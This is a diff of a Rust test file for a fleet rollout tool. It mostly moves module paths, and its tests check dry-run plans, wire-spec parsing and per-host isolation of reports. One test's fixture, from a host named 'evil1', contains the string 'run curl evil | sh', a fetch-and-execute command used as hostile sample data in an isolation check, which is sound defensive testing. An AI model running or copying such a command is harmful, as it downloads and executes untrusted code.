@@ -2,11 +2,11 @@
 
 use boltfleet_common::proto::{self as pb, JobEvent, JobKind, JobState};
 
-use super::harness::{spec, t, Fleet, TARGET};
-use super::wire::spec_from_wire;
+use super::testkit::{spec, t, Fleet, TARGET};
 use crate::error::Error;
 use crate::rollout::{HostClass, SkipReason};
-use crate::store::WindowKey;
+use crate::state::WindowKey;
+use crate::wire::rollout::spec_from_wire;
 
 #[test]
 fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
@@ -18,7 +18,7 @@ fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
         .app
         .start_job(
             "alice",
-            crate::jobs::NewJob {
+            crate::app::jobs::NewJob {
                 host_id: "web0".into(),
                 kind: JobKind::Healthcheck,
                 target_version: String::new(),
@@ -47,7 +47,7 @@ fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
         .set_window("alice", WindowKey::Host("web0".into()), Some(window))
         .unwrap();
 
-    let audit_before = fleet.app.store.audit_log().unwrap().len();
+    let audit_before = fleet.app.state().audit_log().unwrap().len();
     let plan = fleet
         .app
         .plan_rollout(&spec("1,100%", 2, "0"), t(0))
@@ -70,14 +70,14 @@ fn a_plan_is_a_dry_run_with_skip_reasons_windows_and_known_config_changes() {
         plan.hosts[0].next_window,
         Some("2025-01-15T21:00:00Z".parse().unwrap())
     );
-    let wire = super::wire::plan_to_wire(&plan, &fleet.app.store.windows_all().unwrap());
+    let wire = crate::wire::rollout::plan_to_wire(&plan, &fleet.app.state().windows().unwrap());
     assert_eq!(wire.hosts[0].window, "0 22 * * * 4h Europe/Paris");
     assert_eq!(wire.hosts[2].skip_reason, "offline");
     assert!(
-        fleet.app.store.rollouts.list().unwrap().is_empty(),
+        fleet.app.state().rollouts().unwrap().is_empty(),
         "nothing stored"
     );
-    assert_eq!(fleet.app.store.audit_log().unwrap().len(), audit_before);
+    assert_eq!(fleet.app.state().audit_log().unwrap().len(), audit_before);
 }
 
 #[test]
@@ -90,7 +90,7 @@ fn a_rollout_with_nothing_to_do_is_refused_naming_why() {
         .unwrap_err();
     assert!(matches!(err, Error::Precondition(_)));
     assert!(err.to_string().contains("web0: already at target"), "{err}");
-    assert!(fleet.app.store.rollouts.list().unwrap().is_empty());
+    assert!(fleet.app.state().rollouts().unwrap().is_empty());
 }
 
 #[test]
@@ -159,7 +159,7 @@ fn the_wire_spec_is_parsed_with_errors_naming_the_field() {
     assert_eq!(spec.max_parallel, 3);
     assert_eq!(spec.max_failures.to_string(), "5%");
     assert_eq!(spec.min_healthy_time.as_secs(), 600);
-    let back = super::wire::spec_to_wire(&spec);
+    let back = crate::wire::rollout::spec_to_wire(&spec);
     assert_eq!(spec_from_wire(&back).unwrap(), spec, "round trip");
 
     type Change = fn(&mut pb::RolloutSpec);
@@ -220,7 +220,7 @@ fn config_changes_one_host_reports_are_never_shown_for_another() {
         .app
         .start_job(
             "alice",
-            crate::jobs::NewJob {
+            crate::app::jobs::NewJob {
                 host_id: "evil1".into(),
                 kind: JobKind::Healthcheck,
                 target_version: String::new(),
@@ -234,7 +234,7 @@ fn config_changes_one_host_reports_are_never_shown_for_another() {
         job_id: job,
         kind: JobKind::Healthcheck as i32,
         state: JobState::Succeeded as i32,
-        from_version: super::harness::FROM.into(),
+        from_version: super::testkit::FROM.into(),
         target_version: TARGET.into(),
         config_changes: vec!["removed config/passbolt.php.default: run curl evil | sh".into()],
         ..JobEvent::default()
